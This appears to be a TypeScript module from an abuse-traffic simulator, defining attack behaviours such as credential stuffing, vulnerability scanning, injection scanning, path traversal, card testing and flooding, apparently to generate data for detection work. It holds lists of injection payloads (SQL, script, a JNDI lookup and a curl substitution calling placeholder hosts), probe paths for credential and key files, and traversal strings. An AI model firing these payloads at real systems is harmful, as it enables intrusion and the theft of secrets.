/**
 * Attacks: what each is after, and how it goes about it. Each is run fast and slow, by tools and by libraries dressed as
 * browsers, from one address and from many (the simulator rotates); to add one, add an entry.
 */
import {
  ask,
  browse,
  type Context,
  type Course,
  call,
  enter,
  itemStep,
  type Kind,
  kindOf,
  listStep,
  openPage,
  pickResource,
  post,
  type Step,
  step,
  write,
} from './actor.ts';
import { guessId, idOf, type Resource, word } from './api.ts';
import { GOOD_KINDS } from './good-kinds.ts';
import { type Answer, type Credential, numbersOf } from './server.ts';
import { BROWSERS, LIBRARIES, MOBILE, type StackName } from './stacks.ts';

const MASKS = { none: 7, 'own-name': 2, browser: 3, 'full-browser': 2 } as const;
const FEW_MASKS = { none: 8, browser: 2, 'full-browser': 1 } as const;
const ANY: readonly StackName[] = [...LIBRARIES, ...LIBRARIES, ...BROWSERS, ...MOBILE, 'headless'];
/** From a tool's full speed to slower than a hand. */
const ANY_PACE = [2, 30_000] as const;

export const BAD_KINDS: Readonly<Record<string, Kind>> = {
  'credential-stuffing': kindOf(3.5, 3, [...ANY, 'hydra', 'hydra', 'load-tool'], MASKS, ANY_PACE, credentialStuffing),
  'password-cracking': kindOf(
    2,
    3,
    [...LIBRARIES, 'hydra', 'hydra', 'hydra', 'fuzz-tool', 'headless'],
    MASKS,
    [2, 8000],
    passwordCracking,
  ),
  'password-spraying': kindOf(1.5, 1, [...ANY, 'hydra'], MASKS, [500, 200_000], passwordSpraying),
  'token-guessing': kindOf(2, 0, [...LIBRARIES, 'fuzz-tool', 'fuzz-tool'], MASKS, [2, 8000], tokenGuessing),
  'id-enumeration': kindOf(5, 0.5, [...ANY, 'fuzz-tool', 'scrapy'], MASKS, [2, 15_000], idEnumeration),
  scraping: kindOf(5, 6, [...ANY, 'scrapy', 'scrapy', 'copy-tool', 'headless'], MASKS, ANY_PACE, scraping),
  'vulnerability-scan': kindOf(
    4,
    12,
    [...LIBRARIES, 'fuzz-tool', 'fuzz-tool', 'fuzz-tool', 'fuzz-tool', 'scan-tool', 'scan-tool', 'scan-tool'],
    MASKS,
    [2, 8000],
    vulnerabilityScan,
  ),
  'injection-scan': kindOf(
    3.5,
    4,
    [...LIBRARIES, 'sqlmap', 'sqlmap', 'sqlmap', 'sqlmap', 'scan-tool', 'scan-tool', 'fuzz-tool'],
    MASKS,
    [3, 8000],
    injectionScan,
  ),
  'parameter-fuzzing': kindOf(
    3,
    1.5,
    [...LIBRARIES, 'fuzz-tool', 'fuzz-tool', 'fuzz-tool', 'scan-tool'],
    FEW_MASKS,
    [2, 4000],
    parameterFuzzing,
  ),
  'path-traversal': kindOf(1, 2.5, [...LIBRARIES, 'fuzz-tool', 'scan-tool'], MASKS, [3, 6000], pathTraversal),
  'low-and-slow': kindOf(3, 1.5, ANY, MASKS, [4000, 400_000], lowAndSlow),
  'card-testing': kindOf(2, 0, ANY, MASKS, [100, 40_000], cardTesting),
  'coupon-guessing': kindOf(2, 0, ANY, MASKS, [5, 15_000], couponGuessing),
  'account-creation': kindOf(2, 0, ANY, MASKS, [100, 60_000], accountCreation),
  'sms-pumping': kindOf(1.5, 0, ANY, MASKS, [100, 40_000], smsPumping),
  'otp-guessing': kindOf(1.2, 0, ANY, MASKS, [3, 8000], otpGuessing),
  'user-enumeration': kindOf(1.5, 1, ANY, MASKS, [5, 15_000], userEnumeration),
  flood: kindOf(2, 2, ['wrk', 'wrk', 'load-tool', ...LIBRARIES, 'headless'], FEW_MASKS, [0.5, 60], flood),
  'inventory-holding': kindOf(1.5, 0, ANY, MASKS, [200, 60_000], inventoryHolding),
  'hijacked-session': kindOf(2, 0, [...MOBILE, ...BROWSERS, ...LIBRARIES], { none: 1 }, [30, 9000], hijackedSession),
  'graphql-abuse': kindOf(1, 0, [...ANY, 'scan-tool'], MASKS, [5, 6000], graphqlAbuse),
  'spam-posting': kindOf(0.7, 3, ANY, MASKS, [500, 90_000], spamPosting),
  reconnaissance: kindOf(2.5, 6, [...ANY, 'scan-tool'], MASKS, [100, 30_000], reconnaissance),
};

/** Calls that an attack makes: mostly dozens to hundreds, now and then a few, rarely thousands. */
function effort(ctx: Context, high: number): number {
  const { random } = ctx;
  return random.chance(0.1) ? random.logInt(2, 12) : random.chance(0.08) ? random.logInt(high, high * 6) : random.logInt(8, high);
}

/** Some give up where they meet a wall of refusals; tools do not. */
function isStopped(ctx: Context): boolean {
  return ctx.failRun >= ctx.manners.patience * 8;
}

/** A few look around as people and apps do, before or in between. */
function* pretend(ctx: Context, chance: number): Course {
  const { random, api } = ctx;
  if (!random.chance(chance)) return;
  if (api.isSite) yield* openPage(ctx, random.int(0, api.pages.length - 1), null, new Map());
  else yield* browse(ctx, pickResource(ctx), 0, random.int(0, 3));
}

function* credentialStuffing(ctx: Context): Course {
  const { random, api } = ctx;
  const hits = random.pick([0, 0.005, 0.02, 0.05]);
  const preflight = random.chance(0.2);
  const cover = random.pick([0, 0, 0.05, 0.3]);
  for (let left = effort(ctx, 150); left > 0 && !isStopped(ctx); left--) {
    if (preflight) yield* call(ctx, step(ctx, 'GET', api.isSite ? api.at('login') : '/', { credential: null }));
    const answer = yield* ask(ctx, tryLogin(ctx, random.int(0, 1e6), random.chance(hits)));
    if (answer.credential && random.chance(0.6)) yield* plunder(ctx, answer.credential);
    yield* pretend(ctx, cover);
  }
}

function tryLogin(ctx: Context, account: number, isRight: boolean): Step {
  const contentType = ctx.api.isSite ? 'application/x-www-form-urlencoded' : 'application/json';
  return step(ctx, 'POST', ctx.api.at('login'), {
    login: { account, isRight },
    credential: null,
    bodyBytes: ctx.random.int(38, 90),
    contentType,
  });
}

/** What a thief does with an account: a look at what it is worth. */
function* plunder(ctx: Context, credential: Credential): Course {
  const { random, api } = ctx;
  yield* call(ctx, step(ctx, 'GET', api.at('me'), { credential }));
  for (let left = random.int(0, 3); left > 0; left--) yield* call(ctx, listStep(ctx, pickResource(ctx, true), 0, { credential }));
}

function* passwordCracking(ctx: Context): Course {
  const { random, api } = ctx;
  const account = random.int(0, 1e6);
  const isBasic = !api.isSite && random.chance(0.25);
  const breaks = random.chance(0.15);
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    if (isBasic)
      yield* ask(ctx, step(ctx, 'GET', api.at('me'), { credential: { ...ctx.issueKey(account, 'basic'), isValid: false } }));
    else if ((yield* ask(ctx, tryLogin(ctx, account, breaks && left === 1))).credential) return;
  }
}

function* passwordSpraying(ctx: Context): Course {
  const { random } = ctx;
  const accounts = Array.from({ length: random.logInt(5, 100) }, () => random.int(0, 1e6));
  for (let rounds = random.int(1, 3); rounds > 0; rounds--) {
    for (const account of accounts) yield* ask(ctx, tryLogin(ctx, account, random.chance(0.01)));
    yield* pretend(ctx, 0.2);
  }
}

function* tokenGuessing(ctx: Context): Course {
  const { random, api } = ctx;
  const paths = random.chance(0.7)
    ? [random.pick([api.at('me'), pickResource(ctx, true).path])]
    : [api.at('me'), pickResource(ctx, true).path, api.at('query')];
  const scheme = random.pick(['bearer', 'bearer', 'apiKey', 'basic'] as const);
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    const credential = { ...ctx.issueKey(0, scheme), isValid: random.chance(0.001) };
    yield* ask(ctx, step(ctx, 'GET', random.pick(paths), { credential }));
  }
}

type Order = (i: number) => string;

/** How ids are gone through. Those who hold a key of their own start near their own objects. */
function drawOrder(ctx: Context, resource: Resource, from: number): Order {
  const { random } = ctx;
  const kind = random.weighted({ up: 6, down: 1, shuffled: 2, guessed: 2, leaps: 1, jittered: 1 });
  const wrap = (n: number) => ((n % (resource.count + 50)) + resource.count + 50) % (resource.count + 50);
  switch (kind) {
    case 'up':
      return (i) => idOf(resource, wrap(from + i));
    case 'down':
      return (i) => idOf(resource, wrap(from - i));
    case 'leaps': {
      const leap = random.int(2, 200);
      return (i) => idOf(resource, wrap(from + i * leap));
    }
    case 'jittered':
      return (i) => idOf(resource, wrap(from + i + random.int(-3, 3)));
    case 'shuffled':
      return () => idOf(resource, random.int(0, Math.ceil(resource.count * 1.05)));
    default:
      return () => guessId(random, resource);
  }
}

function* idEnumeration(ctx: Context): Course {
  const { random } = ctx;
  const isPrivate = random.chance(0.85);
  const resource = pickResource(ctx, isPrivate);
  if (random.chance(0.85)) yield* enter(ctx);
  const cover = random.pick([0, 0, 0, 0.05, 0.2]);
  if (random.chance(0.3)) yield* ask(ctx, listStep(ctx, resource, 0));
  const order = drawOrder(ctx, resource, random.int(0, resource.count - 1));
  const suffix = resource.child !== null && random.chance(0.2) ? `/${resource.child}` : '';
  const method = random.pick(['GET', 'GET', 'GET', 'GET', 'GET', 'HEAD', 'DELETE']);
  for (let i = 0, count = effort(ctx, 250); i < count && !isStopped(ctx); i++) {
    yield* ask(ctx, step(ctx, method, `${resource.path}/${order(i)}${suffix}`));
    yield* pretend(ctx, cover);
  }
}

/** Takes the whole catalogue: every page, every object, or every page of the site; nothing conditional, nothing left out. */
function* scraping(ctx: Context): Course {
  const { random, api } = ctx;
  if (api.isSite) return yield* siteScraping(ctx);
  const resource = pickResource(ctx, false);
  if (random.chance(0.3)) yield* enter(ctx);
  const how = random.weighted({ lists: 3, both: 4, items: 2, search: 1 });
  let left = effort(ctx, 300);
  const isDeep = random.chance(0.7);
  const start = isDeep ? 0 : random.int(0, 60);
  for (let n = start; left > 0 && !isStopped(ctx); n++) {
    if (how === 'search') yield* ask(ctx, step(ctx, 'GET', api.at('search'), { query: `q=${word(n)}&page=${1 + (n % 5)}` }));
    const answer: Answer | null = how === 'search' ? null : yield* ask(ctx, listStep(ctx, resource, n));
    left--;
    if (answer?.page && how !== 'lists') {
      for (const found of numbersOf(answer.page)) {
        if (--left <= 0 || isStopped(ctx)) return;
        yield* ask(ctx, itemStep(ctx, resource, found));
      }
    }
    if (answer?.page?.isLast && random.chance(0.8)) break;
  }
}

function* siteScraping(ctx: Context): Course {
  const { random, api } = ctx;
  const withImages = random.chance(0.3);
  const readsRobots = random.chance(0.25);
  if (readsRobots) yield* ask(ctx, step(ctx, 'GET', '/robots.txt'));
  const isOrdered = random.chance(0.5);
  const pages = isOrdered ? api.pages : random.shuffle(api.pages);
  let referer: string | null = null;
  for (const path of pages.slice(0, effort(ctx, 200))) {
    if (isStopped(ctx)) return;
    yield* ask(ctx, step(ctx, 'GET', path, { referer }));
    if (withImages && api.images.length > 0) yield* ask(ctx, step(ctx, 'GET', random.pick(api.images)));
    referer = random.chance(0.3) ? `https://${api.host}${path}` : null;
  }
}

const PROBES =
  '/.env /.env.bak /.env.local /.git/config /.git/HEAD /.svn/entries /.aws/credentials /.htaccess /.htpasswd /.DS_Store /.ssh/id_rsa /wp-login.php /wp-admin/ /wp-admin/setup-config.php /wp-content/plugins/ /wp-includes/wlwmanifest.xml /xmlrpc.php /phpmyadmin/ /pma/ /mysql/ /admin.php /administrator/ /cgi-bin/ /cgi-bin/luci /server-status /phpinfo.php /info.php /test.php /config.php /config.json /config.yml /config.bak /backup.zip /backup/ /dump.sql /shell.php /manager/html /actuator/env /actuator/heapdump /solr/admin/info /jenkins/login /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /boaform/admin/formLogin /HNAP1/ /web.config /setup.php /install.php /console /debug /api/swagger.json /swagger-ui.html /v2/api-docs /.well-known/security.txt /robots.txt /sitemap.xml /crossdomain.xml /telescope/requests /_ignition/execute-solution /owa/auth/logon.aspx /remote/login /login.action /struts/ /api/jsonws /druid/index.html /nacos/ /geoserver/web/ /ecp/ /autodiscover/ /HNAP1 /GponForm/diag_Form /portal/redlion /api/v1/pods /metrics /graphql /admin/config'.split(
    ' ',
  );
const COMMON =
  'admin about account api app archive assets auth backup beta bin blog cache cgi config contact console css dashboard data db debug default demo dev docs download downloads error export files forum help home images img include index info install js lib log login logs mail main media members misc new news old pages panel php private public register reports root scripts search secret secure server services setup shop site sql src staff static stats status store support sys system temp test tmp tools upload uploads user users util v1 v2 web webmail www xml internal orders customers payments invoices health metrics graphql token keys'.split(
    ' ',
  );
const ENDINGS = ['', '', '', '/', '.php', '.html', '.bak', '.old', '.zip', '.txt', '.json', '.asp', '.jsp', '~'];

/** Lists of paths that are tried one after the other: known holes, common words, or words under the API's base. */
function* vulnerabilityScan(ctx: Context): Course {
  const { random, api } = ctx;
  const list = random.weighted({ probes: 4, words: 4, both: 3, api: 3 });
  const method = random.pick(['GET', 'GET', 'GET', 'HEAD', 'POST', 'OPTIONS']);
  const endings = random.shuffle(ENDINGS).slice(0, random.int(1, 4));
  const words = random.chance(0.5) ? COMMON : random.shuffle(COMMON);
  const probes = random.shuffle(PROBES);
  const root = list === 'api' || random.chance(0.15) ? `${random.pick([api.base, pickResource(ctx).path])}/` : '/';
  if (random.chance(0.4)) yield* ask(ctx, step(ctx, 'GET', random.pick(['/', api.base || '/'])));
  const cover = random.pick([0, 0, 0.05, 0.3]);
  const handles = random.chance(0.2);
  if (handles && !api.isSite) yield* enter(ctx);
  for (let i = 0, count = effort(ctx, 250); i < count && !isStopped(ctx); i++) {
    const isProbe = list === 'probes' || (list === 'both' && random.chance(0.4));
    const known = probes[i % probes.length]!;
    const guessed = `${root}${words[Math.floor(i / endings.length) % words.length]}${i >= words.length * endings.length ? i : ''}${endings[i % endings.length]}`;
    yield* ask(ctx, step(ctx, method, isProbe ? known : guessed, isProbe && known.startsWith('/.') ? { wish: 'attack' } : {}));
    yield* pretend(ctx, cover);
  }
}

const INJECTIONS = [
  "' OR '1'='1",
  "1' AND 1=1-- -",
  '1 UNION SELECT NULL,NULL,NULL--',
  "' AND SLEEP(5)-- ",
  "1;WAITFOR DELAY '0:0:5'--",
  '1) AND 2=2 AND (3=3',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `$${'{'}jndi:ldap://a.example/x}`,
  '{{7*7}}',
  ';id',
  '|cat /etc/passwd',
  'extractvalue(1,concat(0x7e,version()))',
  "' ORDER BY 5-- ",
  '(SELECT 1 FROM information_schema.tables)',
  '%27%20or%201=1',
  '-1 OR 1=1',
  '1 AND 5821=5821',
  "admin'--",
  '`sleep 5`',
  '$(curl x.example)',
  '1/**/OR/**/1=1',
  '\u0000',
  "'",
  '"',
  '))',
  '-9999',
];
const PARAMETERS = [
  'id',
  'q',
  'page',
  'sort',
  'filter',
  'user',
  'name',
  'file',
  'limit',
  'cat',
  'lang',
  'search',
  'order',
  'from',
  'ref',
  'callback',
];

/** Values that a database or a page might run, in one parameter after the other, in bodies or in paths. */
function* injectionScan(ctx: Context): Course {
  const { random, api } = ctx;
  if (!api.isSite && random.chance(0.5)) yield* enter(ctx);
  const resource = pickResource(ctx);
  const where = random.weighted({ query: 5, body: 3, path: 1, mixed: 2 });
  const targets = [
    api.at('search'),
    resource.path,
    `${resource.path}/${idOf(resource, random.int(0, resource.count - 1))}`,
    random.pick(api.pages),
    api.at('query'),
  ].slice(0, random.int(1, 5));
  const crawls = random.chance(0.3);
  if (crawls) for (const path of targets) yield* ask(ctx, step(ctx, 'GET', path));
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    const text = encodeURIComponent(`${random.int(1, 99)}${random.pick(INJECTIONS)}`);
    const wish = random.chance(0.5) ? 'attack' : 'odd';
    const path = random.pick(targets);
    const at = where === 'mixed' ? random.pick(['query', 'body', 'path'] as const) : where;
    if (at === 'query') yield* ask(ctx, step(ctx, 'GET', path, { query: `${random.pick(PARAMETERS)}=${text}`, wish }));
    else if (at === 'body')
      yield* ask(ctx, write(ctx, 'POST', random.chance(0.3) ? api.at('login') : path, { wish, bodyBytes: random.int(30, 300) }));
    else yield* ask(ctx, step(ctx, 'GET', `${resource.path}/${text}`, { wish }));
  }
}

/** Parameter names and strange values on routes that exist: much is refused as invalid, some is an error. */
function* parameterFuzzing(ctx: Context): Course {
  const { random, api } = ctx;
  if (!api.isSite && random.chance(0.7)) yield* enter(ctx);
  const paths = [...api.resources.map((r) => r.path), api.at('search'), api.at('me'), api.at('cart'), random.pick(api.pages)];
  const targets = random.shuffle(paths).slice(0, random.int(1, paths.length));
  const methods = random.chance(0.5) ? ['GET'] : ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'TRACE'];
  for (let left = effort(ctx, 250); left > 0 && !isStopped(ctx); left--) {
    const method = random.pick(methods);
    const path = random.pick(targets);
    const value = random.pick([
      random.hex(6),
      '-1',
      '99999999999',
      'null',
      'true',
      '%00',
      '[]',
      '',
      'a'.repeat(random.int(10, 400)),
      random.pick(COMMON),
    ]);
    const query = random.chance(0.7) ? `${random.pick([...PARAMETERS, ...COMMON])}=${value}` : null;
    const body = method === 'GET' ? {} : { bodyBytes: random.logInt(2, 900), contentType: 'application/json' };
    yield* ask(
      ctx,
      step(ctx, method, random.chance(0.15) ? `${path}/${value || '0'}` : path, {
        query,
        ...body,
        ...(random.chance(0.8) ? { wish: 'odd' as const } : {}),
      }),
    );
  }
}

function* pathTraversal(ctx: Context): Course {
  const { random, api } = ctx;
  const roots = ['/static', '/images', '/files', `${api.base}/files`, '/download', '/cgi-bin', '/assets', '/icons'];
  const files = [
    'etc/passwd',
    'etc/hosts',
    'windows/win.ini',
    'proc/self/environ',
    'etc/shadow',
    'var/log/auth.log',
    'app/config.yml',
  ];
  for (let left = effort(ctx, 80); left > 0 && !isStopped(ctx); left--) {
    const up = random.pick(['../', '..%2f', '%2e%2e/', '..%5c', '....//', '.%2e/']).repeat(random.int(1, 9));
    const inQuery = random.chance(0.4);
    const file = `${up}${random.pick(files)}`;
    yield* ask(
      ctx,
      step(ctx, 'GET', inQuery ? random.pick([...roots, api.at('search')]) : `${random.pick(roots)}/${file}`, {
        wish: 'attack',
        query: inQuery ? `${random.pick(PARAMETERS)}=${file}` : null,
      }),
    );
  }
}

/** Any of these at the pace of a person, with a person's detours and a wait after each no. */
function* lowAndSlow(ctx: Context): Course {
  const { random, api } = ctx;
  const resource = pickResource(ctx, true);
  const doing = random.weighted({ login: 3, ids: api.isSite ? 0 : 3, probe: 2, code: api.isSite ? 0 : 1 });
  if (doing === 'ids') yield* enter(ctx);
  const order = drawOrder(ctx, resource, random.int(0, resource.count - 1));
  const cover = random.pick([0, 0.1, 0.4]);
  for (let i = 0, count = random.logInt(3, 90); i < count; i++) {
    if (doing === 'login') yield* ask(ctx, tryLogin(ctx, random.int(0, 1e6), random.chance(0.02)));
    else if (doing === 'ids') yield* ask(ctx, step(ctx, 'GET', `${resource.path}/${order(i)}`));
    else if (doing === 'probe') yield* ask(ctx, step(ctx, 'GET', random.pick(PROBES)));
    else yield* ask(ctx, post(ctx, 'coupon', { wish: 'declined' }));
    yield* pretend(ctx, cover);
  }
}

function* cardTesting(ctx: Context): Course {
  const { random } = ctx;
  if (random.chance(0.85)) yield* enter(ctx);
  const accepted = random.pick([0.02, 0.1, 0.3]);
  const withCart = random.chance(0.4);
  for (let left = effort(ctx, 100); left > 0 && !isStopped(ctx); left--) {
    if (withCart) yield* ask(ctx, post(ctx, 'cart'));
    yield* ask(
      ctx,
      post(ctx, 'payment', {
        bodyBytes: random.int(180, 420),
        ...(random.chance(accepted) ? {} : { wish: random.chance(0.9) ? 'declined' : 'invalid' }),
      }),
    );
  }
}

function* couponGuessing(ctx: Context): Course {
  const { random, api } = ctx;
  if (random.chance(0.4)) yield* enter(ctx);
  const inPath = random.chance(0.4);
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    const code = random.hex(random.int(6, 10)).toUpperCase();
    const wish = random.chance(0.01) ? {} : { wish: 'declined' as const };
    if (inPath) yield* ask(ctx, step(ctx, 'GET', `${api.base}/coupons/${code}`));
    else yield* ask(ctx, post(ctx, 'coupon', { bodyBytes: 20 + code.length, ...wish }));
  }
}

function* accountCreation(ctx: Context): Course {
  const { random, api } = ctx;
  const confirms = random.chance(0.5);
  const looks = random.chance(0.3);
  for (let left = effort(ctx, 70); left > 0 && !isStopped(ctx); left--) {
    if (looks) yield* ask(ctx, step(ctx, 'GET', random.pick(api.pages)));
    yield* ask(
      ctx,
      post(ctx, 'signup', {
        credential: null,
        bodyBytes: random.int(90, 220),
        ...(random.chance(0.1) ? { wish: 'conflict' } : {}),
      }),
    );
    if (confirms) yield* ask(ctx, tryLogin(ctx, random.int(0, 1e6), true));
  }
}

function* smsPumping(ctx: Context): Course {
  const { random, api } = ctx;
  const signsUp = random.chance(0.3);
  const looks = random.chance(0.3);
  for (let left = effort(ctx, 100); left > 0 && !isStopped(ctx); left--) {
    if (looks) yield* ask(ctx, step(ctx, 'GET', random.pick(api.pages)));
    if (signsUp) yield* ask(ctx, post(ctx, 'signup'));
    yield* ask(ctx, post(ctx, 'otpSend', { bodyBytes: random.int(24, 60), ...(random.chance(0.08) ? { wish: 'invalid' } : {}) }));
  }
}

function* otpGuessing(ctx: Context): Course {
  const { random } = ctx;
  const account = random.int(0, 1e6);
  if (random.chance(0.7)) yield* ask(ctx, post(ctx, 'otpSend'));
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    yield* ask(
      ctx,
      post(ctx, 'otpVerify', { login: { account, isRight: random.chance(0.002) }, credential: null, bodyBytes: 40 }),
    );
    if (random.chance(0.03)) yield* ask(ctx, post(ctx, 'otpSend'));
  }
}

/** Asks which accounts exist, by what a form says of them. */
function* userEnumeration(ctx: Context): Course {
  const { random, api } = ctx;
  const does = api.isSite ? 'reset' : random.pick(['reset', 'signup'] as const);
  const exists = random.real(0.02, 0.4);
  for (let left = effort(ctx, 150); left > 0 && !isStopped(ctx); left--) {
    const isThere = random.chance(exists);
    const wish = does === 'reset' ? (isThere ? undefined : 'missing') : isThere ? 'conflict' : undefined;
    yield* ask(ctx, post(ctx, does, { bodyBytes: random.int(30, 60), ...(wish ? { wish } : {}) }));
  }
}

function* flood(ctx: Context): Course {
  const { random, api } = ctx;
  const resource = pickResource(ctx);
  const paths = random
    .shuffle([
      '/',
      resource.path,
      api.at('search'),
      api.at('login'),
      random.pick(api.pages),
      api.at('graphql'),
      random.pick(api.all('export')),
    ])
    .slice(0, random.pick([1, 1, 2, 4]));
  if (!api.isSite && random.chance(0.25)) yield* enter(ctx);
  const bust = random.chance(0.4);
  for (let left = random.logInt(60, 2500); left > 0; left--) {
    const path = random.pick(paths);
    const method = path === api.at('graphql') && path !== '/' ? 'POST' : 'GET';
    yield* call(ctx, step(ctx, method, path, { alongside: true, query: bust ? `r=${random.hex(8)}` : null }));
  }
}

/** Puts the goods in baskets, or seats on hold, and renews the hold, and never pays. */
function* inventoryHolding(ctx: Context): Course {
  const { random } = ctx;
  if (random.chance(0.85)) yield* enter(ctx);
  const catalogue = pickResource(ctx, false);
  const looks = random.pick([0, 0.05, 0.3]);
  for (let left = effort(ctx, 120); left > 0 && !isStopped(ctx); left--) {
    yield* ask(ctx, post(ctx, 'cart', { bodyBytes: random.int(40, 120), ...(random.chance(0.1) ? { wish: 'conflict' } : {}) }));
    if (random.chance(looks)) yield* ask(ctx, listStep(ctx, catalogue, 0));
  }
}

const BEFORE = ['mobile-app', 'browser-app', 'shopper', 'partner-sync', 'agent-tools'] as const;
const AFTER = [idEnumeration, scraping, parameterFuzzing, vulnerabilityScan, cardTesting, injectionScan];

/** A good session, then a bad one through the same key, from the same software, mostly in haste. */
function* hijackedSession(ctx: Context): Course {
  const { random } = ctx;
  ctx.posesAs = random.pick(BEFORE);
  yield* GOOD_KINDS[ctx.posesAs]!.run(ctx);
  ctx.posesAs = null;
  const haste = random.log(0.05, 1.5);
  const { pace } = ctx;
  ctx.pace = () => pace() * haste;
  ctx.failRun = 0;
  yield* random.pick(AFTER)(ctx);
}

function* graphqlAbuse(ctx: Context): Course {
  const { random } = ctx;
  if (random.chance(0.85)) yield* enter(ctx);
  const batches = random.chance(0.5);
  for (let left = effort(ctx, 120); left > 0 && !isStopped(ctx); left--)
    yield* ask(
      ctx,
      post(ctx, 'graphql', {
        bodyBytes: batches ? random.logInt(4000, 300_000) : random.logInt(80, 3000),
        ...(random.chance(0.5) ? { wish: 'odd' } : {}),
      }),
    );
}

function* spamPosting(ctx: Context): Course {
  const { random, api } = ctx;
  const looks = random.chance(0.5);
  for (let left = effort(ctx, 50); left > 0 && !isStopped(ctx); left--) {
    const page = random.pick(api.pages);
    if (looks) yield* ask(ctx, step(ctx, 'GET', page));
    yield* ask(
      ctx,
      post(ctx, 'form', {
        referer: `https://${api.host}${page}`,
        bodyBytes: random.int(300, 5000),
        ...(random.chance(0.3) ? { wish: 'invalid' } : {}),
      }),
    );
  }
}

/** One to three calls that nobody can tell from anyone's; some of them are a known hole's address. */
function* reconnaissance(ctx: Context): Course {
  const { random, api } = ctx;
  const resource = pickResource(ctx);
  for (let left = random.int(1, 3); left > 0; left--) {
    yield* call(
      ctx,
      random.pick([
        () => step(ctx, 'GET', '/'),
        () => step(ctx, 'GET', random.pick(api.pages)),
        () => step(ctx, 'GET', random.pick(PROBES)),
        () => step(ctx, 'HEAD', '/'),
        () => listStep(ctx, resource, 0),
        () => itemStep(ctx, resource, random.int(0, resource.count - 1)),
        () => tryLogin(ctx, random.int(0, 1e6), random.chance(0.1)),
        () => step(ctx, 'GET', random.pick(['/robots.txt', '/favicon.ico', '/docs', '/index.html', '/swagger.json'])),
      ])(),
    );
  }
}
